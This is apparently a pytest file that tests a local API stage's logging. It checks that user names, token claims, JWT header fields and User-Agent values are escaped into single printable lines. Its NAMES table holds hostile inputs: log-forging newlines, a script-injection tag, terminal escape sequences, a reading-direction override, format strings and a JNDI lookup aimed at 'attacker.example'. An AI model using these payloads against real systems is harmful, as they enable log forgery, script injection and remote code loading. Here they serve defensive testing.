"""A claim that its owner may choose, such as a name, writes no line of its own into a log."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator

import boto3
import pytest
from mypy_boto3_cognito_idp.type_defs import AttributeTypeTypeDef

from tests.api.temporary import random_name
from tests.local.hostile.attacked_api import AttackedApi
from tests.local.hostile.wire import build, exchange

NAMES: dict[str, str] = {
    "a line feed": 'Taro"\n200 GET /dev/admin 1.0 ms',
    "a carriage return": "Taro\r401 GET /dev/hello",
    "an end of script": '</script><script>alert("1")</script>',
    "a colour": "\x1b[31mTaro\x1b[0m",
    "a title of the terminal": "\x1b]0;owned\x07",
    "a C1 control": "\x9b31mTaro",
    "a next line": "Taro\x85forged",
    "a line separator": f"Taro{chr(0x2028)}forged",
    "a paragraph separator": f"Taro{chr(0x2029)}forged",
    "an override of the reading direction": "Taro\u202egnp.exe",
    "a byte order mark": "\ufeffTaro",
    "a NUL": "Taro\0forged",
    "a delete": "Taro\x7fforged",
    "a backslash": 'Taro\\","status":"200',
    "a variable": "$context.authorizer.claims.sub ${jndi:ldap://attacker.example/a}",
    "a format": "%s%n{0}{self}",
}


@contextlib.contextmanager
def user_called(api: AttackedApi, name: str) -> Iterator[str]:
    """Create a user of this name in the pool, and yield an ID token of theirs."""
    outputs, password = api.stage.outputs, f"{random_name('aA1-')}"
    cognito = boto3.client(
        "cognito-idp",
        endpoint_url=api.stage.aws_endpoint_url,
        region_name=outputs["UserPoolId"].partition("_")[0],
        aws_access_key_id="test",
        aws_secret_access_key="test",
    )
    pool_id, username = outputs["UserPoolId"], random_name("user")
    attributes: list[AttributeTypeTypeDef] = [{"Name": "name", "Value": name}]
    cognito.admin_create_user(
        UserPoolId=pool_id, Username=username, MessageAction="SUPPRESS", UserAttributes=attributes
    )
    try:
        cognito.admin_set_user_password(
            UserPoolId=pool_id, Username=username, Password=password, Permanent=True
        )
        signed_in = cognito.initiate_auth(
            AuthFlow="USER_PASSWORD_AUTH",
            ClientId=outputs["UserPoolClientId"],
            AuthParameters={"USERNAME": username, "PASSWORD": password},
        )
        yield signed_in["AuthenticationResult"]["IdToken"]
    finally:
        cognito.admin_delete_user(UserPoolId=pool_id, Username=username)


def call(api: AttackedApi, token: str) -> str:
    """Call /hello and return the claim `name` as the function got it."""
    answer = exchange(api.address, build("GET", "/dev/hello", [("Authorization", token)]))
    assert answer is not None
    assert answer.status == 200
    name = json.loads(answer.body)["authorizer"]["claims"]["name"]
    assert isinstance(name, str)
    return name


def new_own_log(api: AttackedApi) -> list[str]:
    """Return the stage's new lines without the functions', which come in their own time."""
    return [line for line in api.stage.new_log() if not line.startswith("[")]


def new_access_log(api: AttackedApi, before: int) -> str:
    return (api.stage.state_folder / "access.log").read_bytes()[before:].decode()


@pytest.mark.parametrize("label", NAMES)
def test_a_users_own_name_stands_escaped_in_the_access_log(api: AttackedApi, label: str) -> None:
    before = len((api.stage.state_folder / "access.log").read_bytes())
    with user_called(api, NAMES[label]) as token:
        assert call(api, token) == NAMES[label]
    written = new_access_log(api, before)
    assert written.count("\n") == 1
    assert written.removesuffix("\n").isprintable()
    assert "<" not in written
    assert json.loads(written)["name"] == NAMES[label]


@pytest.mark.parametrize("label", NAMES)
def test_a_users_own_name_does_not_stand_in_the_stages_log(api: AttackedApi, label: str) -> None:
    api.stage.new_log()
    call(api, api.forgers["id"].good(name=NAMES[label]))
    written = api.stage.new_log()
    assert all(line.replace("\t", " ").isprintable() for line in written)
    assert NAMES[label] not in "\n".join(written)


@pytest.mark.parametrize("claim", ["token_use", "iss", "sub", "aud", "exp", "iat"])
@pytest.mark.parametrize("label", NAMES)
@pytest.mark.usefixtures("nobody_calls")
def test_a_claim_for_which_a_token_is_refused_is_quoted_in_one_printable_line(
    api: AttackedApi, label: str, claim: str
) -> None:
    api.stage.new_log()
    value = [NAMES[label]] if claim in {"sub", "aud"} else NAMES[label]
    assert_refused(api, api.forgers["id"].good(**{claim: value}))
    (line,) = new_own_log(api)
    assert line.startswith("401 GET /dev/hello (Api): ")
    assert line.isascii()
    assert line.isprintable()


@pytest.mark.parametrize("label", NAMES)
@pytest.mark.usefixtures("nobody_calls")
def test_a_kid_and_an_algorithm_are_quoted_in_one_printable_line(api: AttackedApi, label: str) -> None:
    api.stage.new_log()
    for member in ("kid", "alg", "crit"):
        assert_refused(api, api.forgers["id"].with_header(**{member: NAMES[label]}))
    lines = new_own_log(api)
    assert len(lines) == 3
    assert all(line.isascii() and line.isprintable() for line in lines)


@pytest.mark.parametrize("label", NAMES)
def test_a_user_agent_stands_escaped_in_the_access_log(api: AttackedApi, label: str) -> None:
    agent = NAMES[label].translate(dict.fromkeys(map(ord, "\r\n\0")))
    before = len((api.stage.state_folder / "access.log").read_bytes())
    answer = exchange(api.address, build("GET", "/dev/nothing", [("User-Agent", agent)]))
    assert answer is not None
    if answer.status == 400:  # a control character that no header may carry
        assert new_access_log(api, before) == ""
    else:
        written = new_access_log(api, before)
        assert written.count("\n") == 1
        assert written.removesuffix("\n").isprintable()
        assert json.loads(written)["userAgent"] == agent


def assert_refused(api: AttackedApi, token: str) -> None:
    answer = exchange(api.address, build("GET", "/dev/hello", [("Authorization", token)]))
    assert answer is not None
    assert answer.status == 401
